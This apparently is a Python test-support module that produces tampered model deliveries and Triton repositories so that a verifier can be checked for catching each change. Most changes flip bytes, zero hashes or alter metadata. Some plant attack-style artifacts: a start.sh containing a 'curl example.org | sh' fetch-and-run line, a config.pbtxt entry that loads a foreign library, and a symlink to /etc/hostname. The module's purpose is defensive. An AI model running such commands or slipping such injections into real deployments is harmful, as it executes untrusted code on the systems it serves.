"""Delivered folders and Triton repositories with one thing wrong."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import numpy as np
import onnx

from mutants.editing import a_conv, edit, stored
from rcil.core.files import sha256_of

Place = Literal["folder", "triton"]
Change = Callable[[Path], None]
MODEL, VERSION = Path("yard"), Path("yard/1")


@dataclass(frozen=True)
class Delivery:
    """One way to spoil what is delivered around a graph."""

    kind: str
    place: Place
    named: str
    """What has to be named."""
    change: Change
    """Changes the folder."""


DELIVERIES: dict[str, Delivery] = {}


def delivery(place: Place, kind: str, named: str) -> Callable[[Change], Change]:
    """Adds a function to the list under its name."""

    def add(change: Change) -> Change:
        DELIVERIES[change.__name__] = Delivery(kind, place, named, change)
        return change

    return add


def _json(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document, indent=2))


def _sidecar(kind: str, field: str, change: Callable[[dict[str, Any]], None]) -> None:
    """A field of the sidecar."""

    def edited(folder: Path) -> None:
        _json(folder / "model.engine.json", change)

    edited.__name__ = "sidecar_" + kind.split()[1]
    delivery("folder", f"{kind} in the sidecar", field)(edited)


def _flip_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)


@delivery("folder", "an engine with a changed byte", "engine_sha256")
def engine_byte(folder):
    _flip_byte(folder / "model.engine")


@delivery("folder", "an engine with a changed byte, and its new hash in the sidecar", "model.engine, built by")
def engine_swapped(folder):
    _flip_byte(folder / "model.engine")
    digest = sha256_of(folder / "model.engine")
    _json(folder / "model.engine.json", lambda sidecar: sidecar.update(engine_sha256=digest))


def _rename_class(sidecar):
    sidecar["metadata"]["rcil"] = sidecar["metadata"]["rcil"].replace('"name":"a"', '"name":"z"')


_sidecar("the graph's hash", "onnx_sha256", lambda sidecar: sidecar.update(onnx_sha256="0" * 64))
_sidecar("the file of the graph", "onnx_file", lambda sidecar: sidecar.update(onnx_file="other.onnx"))
_sidecar("the precision", "precision", lambda sidecar: sidecar.update(precision="fp16"))
_sidecar("the GPUs", "model.engine, built by", lambda sidecar: sidecar.update(gpus=["sm89"]))
_sidecar("the type of an output", "outputs[0].dtype", lambda sidecar: sidecar["outputs"][0].update(dtype="int32"))
_sidecar("the number of convs", "conv_layers", lambda sidecar: sidecar.update(conv_layers={"fp32": 9}))
_sidecar("the class table", "metadata.rcil", _rename_class)


@delivery("folder", "a sidecar without its engine", "model.engine.json")
def engine_gone(folder):
    (folder / "model.engine").unlink()


def _report_hash(name: str) -> None:
    def edited(folder: Path) -> None:
        def change(report: dict[str, Any]) -> None:
            text = report["facts"][name]
            at = text.index("sha256 ") + len("sha256 ")
            report["facts"][name] = f"{text[:at]}{'0' * 12}"

        _json(folder / "report.json", change)

    edited.__name__ = f"report_{name}"
    delivery("folder", f"the hash of the {name} in the report", f"facts.{name}")(edited)


for _name in ("checkpoint", "model.onnx", "model.engine"):
    _report_hash(_name)


@delivery("folder", "a whole hash in the report", "sha256.model.onnx")
def report_whole_hash(folder):
    _json(folder / "report.json", lambda report: report["sha256"].update({"model.onnx": "0" * 64}))


@delivery("folder", "the number of parameters in the report", "results.certificate.parameters")
def report_parameters(folder):
    def change(report):
        items = {item["key"]: item for result in report["results"] for item in result["items"]}
        items["parameters"]["measured"] = "1,000"

    _json(folder / "report.json", change)


@delivery("folder", "the number of nodes in the report", "facts.graph")
def report_nodes(folder):
    def change(report):
        report["facts"]["graph"] = report["facts"]["graph"].replace(" nodes", "0 nodes")

    _json(folder / "report.json", change)


@delivery("folder", "a class in the report", "model.classes[1].name")
def report_class(folder):
    def change(report):
        report["model"]["classes"][1]["name"] = "other"

    _json(folder / "report.json", change)


@delivery("folder", "a number in the model card", "model_card.md, line")
def card_number(folder):
    _replace(folder / "model_card.md", "4 classes", "5 classes")


@delivery("folder", "compiled kernels of one machine", "model.engine.cache")
def engine_cache(folder):
    (folder / "model.engine.cache").write_bytes(b"payload")


@delivery("folder", "a failed item in a report that says that all is well", "ok")
def report_item(folder):
    def change(report):
        report["results"][0]["items"][0]["passed"] = False

    _json(folder / "report.json", change)


@delivery("folder", "a file that no export writes", "libnvinfer_plugin.so")
def extra_file(folder):
    (folder / "libnvinfer_plugin.so").write_bytes(b"payload")


@delivery("folder", "a folder that no export writes", ".cache")
def extra_folder(folder):
    (folder / ".cache").mkdir()
    (folder / ".cache" / "payload").write_bytes(b"payload")


@delivery("folder", "a link in place of a report", "report.html")
def linked_report(folder):
    (folder / "report.html").unlink()
    (folder / "report.html").symlink_to("/etc/hostname")


@delivery("folder", "a layer of the graph", ".weight")
def folder_weight(folder):
    _scale_layer(folder / "model.onnx")


@delivery("triton", "a layer of the served graph", ".weight")
def triton_weight(folder):
    _scale_layer(folder / VERSION / "model.onnx")


@delivery("triton", "a layer of the served graph, and its new hash in step.json", ".weight")
def triton_weight_and_hash(folder):
    model = folder / VERSION / "model.onnx"
    _scale_layer(model)
    _json(folder / VERSION / "step.json", lambda step: step.update(model_sha256=sha256_of(model)))


@delivery("triton", "the queue in config.pbtxt", "config.pbtxt, line")
def triton_queue(folder):
    _replace(folder / MODEL / "config.pbtxt", "max_queue_size: 64", "max_queue_size: 6400")


@delivery("triton", "a library that Triton loads, in config.pbtxt", "config.pbtxt, line")
def triton_library(folder):
    path = folder / MODEL / "config.pbtxt"
    path.write_text(path.read_text() + 'model_operations { op_library_filename: "payload.so" }\n')


@delivery("triton", "the file of the model in config.pbtxt", "config.pbtxt, line")
def triton_file(folder):
    _replace(folder / MODEL / "config.pbtxt", '"model.onnx"', '"other.onnx"')


@delivery("triton", "the name of a class that clients read from config.pbtxt", "config.pbtxt, line")
def triton_described_class(folder):
    _replace(folder / MODEL / "config.pbtxt", '\\"name\\":\\"background\\"', '\\"name\\":\\"nothing\\"')


@delivery("triton", "a colour in the description of step.json", "description")
def triton_description(folder):
    _json(
        folder / VERSION / "step.json",
        lambda step: step["description"]["metadata"]["classes"][1].update(colour=[1, 2, 3]),
    )


@delivery("triton", "the hash of the model in step.json", "model_sha256")
def triton_hash(folder):
    _json(folder / VERSION / "step.json", lambda step: step.update(model_sha256="0" * 64))


@delivery("triton", "a colour in step.json", "classes[1].colour")
def triton_colour(folder):
    _json(folder / VERSION / "step.json", lambda step: step["classes"][1].update(colour=[1, 2, 3]))


@delivery("triton", "two names in labels.txt swapped", "labels.txt, line")
def triton_labels(folder):
    path = folder / MODEL / "labels.txt"
    first, second, *rest = path.read_text().splitlines()
    path.write_text("\n".join([second, first, *rest]) + "\n")


@delivery("triton", "a library beside the served graph", f"{VERSION}/libcustom.so")
def triton_beside(folder):
    (folder / VERSION / "libcustom.so").write_bytes(b"payload")


@delivery("triton", "a file in the repository that belongs to no model", "start.sh")
def triton_stray(folder):
    (folder / "start.sh").write_text("curl example.org | sh\n")


@delivery("triton", "a version that is a link", "yard/2")
def triton_link(folder):
    (folder / MODEL / "2").symlink_to("1")


@delivery("triton", "no version of the checkpoint's step", "yard")
def triton_gone(folder):
    (folder / VERSION).rename(folder / MODEL / "7")


def _replace(path, old, new):
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def _scale_layer(path):
    document = onnx.load(path)
    edit(stored(document, a_conv(document).input[1]), lambda w: w * np.float32(1.001))
    path.write_bytes(document.SerializeToString(deterministic=True))
